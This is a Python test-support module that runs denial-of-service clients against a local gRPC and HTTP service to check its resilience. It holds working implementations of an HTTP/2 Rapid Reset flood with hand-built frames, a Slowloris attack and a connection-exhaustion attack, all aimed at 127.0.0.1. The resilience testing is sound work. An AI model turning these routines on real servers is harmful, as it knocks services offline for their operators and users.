"""Clients that mean no good, each in a process of its own, until it is killed. Prints one line once it is under way."""

from __future__ import annotations

import itertools
import os
import selectors
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
HEADERS, RESET, END_HEADERS, CANCEL = 1, 3, 4, 8
PAIRS_AT_ONCE = 100


@contextmanager
def attacking(kind: str, *, grpc_port: int, http_port: int, count: int) -> Iterator[None]:
    """From the last core, where there are several: the attack is measured, not that it takes others' processor."""
    process = subprocess.Popen(
        [sys.executable, "-m", "tests.faults.attacks", kind, str(grpc_port), str(http_port), str(count)],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert process.stdout is not None
        assert process.stdout.readline() == "under way\n"
        yield
        assert process.poll() is None, "the attack ended by itself"
    finally:
        process.kill()
        process.wait(30)
        if process.stdout is not None:
            process.stdout.close()


def rapid_reset(grpc_port: int, http_port: int, count: int) -> None:
    """Streams that are opened and reset at once, over `count` connections: each costs the server more than the client."""
    wires = [_hello(grpc_port, reads=True) for _ in range(count)]
    print("under way", flush=True)
    streams = [itertools.count(1, 2) for _ in wires]
    block = _header_block("/coordinator.Coordinator/Heartbeat")
    for turn in itertools.cycle(range(count)):
        pairs = b"".join(
            _frame(HEADERS, END_HEADERS, number, block) + _frame(RESET, 0, number, CANCEL.to_bytes(4, "big"))
            for number in itertools.islice(streams[turn], PAIRS_AT_ONCE)
        )
        try:
            wires[turn].sendall(pairs)
        except OSError:  # It has had enough of this one.
            wires[turn].close()
            with suppress(OSError):
                wires[turn] = _hello(grpc_port, reads=True)
            streams[turn] = itertools.count(1, 2)


def slowloris(grpc_port: int, http_port: int, count: int) -> None:
    """Requests that are never finished, over `count` connections, a byte of each now and then."""
    head = b"GET /api/workers HTTP/1.1\r\nHost: localhost\r\nX-A: "
    wires: list[socket.socket] = []
    for number in range(count):
        with suppress(OSError):
            wires.append(_connect(http_port, head) if number % 2 else _connect(grpc_port, PREFACE[:-4]))
    print("under way", flush=True)
    while True:
        for number, wire in enumerate(wires):
            try:
                wire.send(b"a" if number % 2 else b"")
            except OSError:
                wire.close()
                with suppress(OSError):
                    wires[number] = _connect(http_port, head)
        time.sleep(0.2)


def connections(grpc_port: int, http_port: int, count: int) -> None:
    """`count` connections, half of them to each port, that say hello and nothing more. What is refused is asked for again."""
    wires: dict[int, socket.socket] = {}
    for number in range(count):
        with suppress(OSError):
            wires[number] = _hello(grpc_port) if number % 2 else _connect(http_port)
    print("under way", flush=True)
    waiting = selectors.DefaultSelector()
    for number, wire in wires.items():
        wire.setblocking(False)
        waiting.register(wire, selectors.EVENT_READ, number)
    while True:
        for key, _ in waiting.select(1.0):
            wire = wires[key.data]
            try:
                ended = not wire.recv(65_536)
            except OSError:
                ended = True
            if ended:
                waiting.unregister(wire)
                wire.close()


def _hello(port: int, *, reads: bool = False) -> socket.socket:
    wire = _connect(port, PREFACE)
    if reads:
        wire.settimeout(None)
        threading.Thread(target=_swallow, args=(wire,), daemon=True).start()
    return wire


def _connect(port: int, data: bytes = b"") -> socket.socket:
    wire = socket.create_connection(("127.0.0.1", port), timeout=10)
    try:
        wire.sendall(data)
    except OSError:
        wire.close()
        raise
    return wire


def _swallow(wire: socket.socket) -> None:
    """Answers are read, as a real client does: otherwise its own buffers would end it."""
    with suppress(OSError):
        while wire.recv(1 << 20):
            pass


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body


def _header_block(path: str) -> bytes:
    """HPACK, with nothing indexed and nothing compressed."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    return b"".join(
        b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in fields.items()
    )


def main() -> None:
    kind, *numbers = sys.argv[1:]
    os.sched_setaffinity(0, {max(os.sched_getaffinity(0))})
    attacks = {"rapid_reset": rapid_reset, "slowloris": slowloris, "connections": connections}
    attacks[kind](*map(int, numbers))


if __name__ == "__main__":
    main()
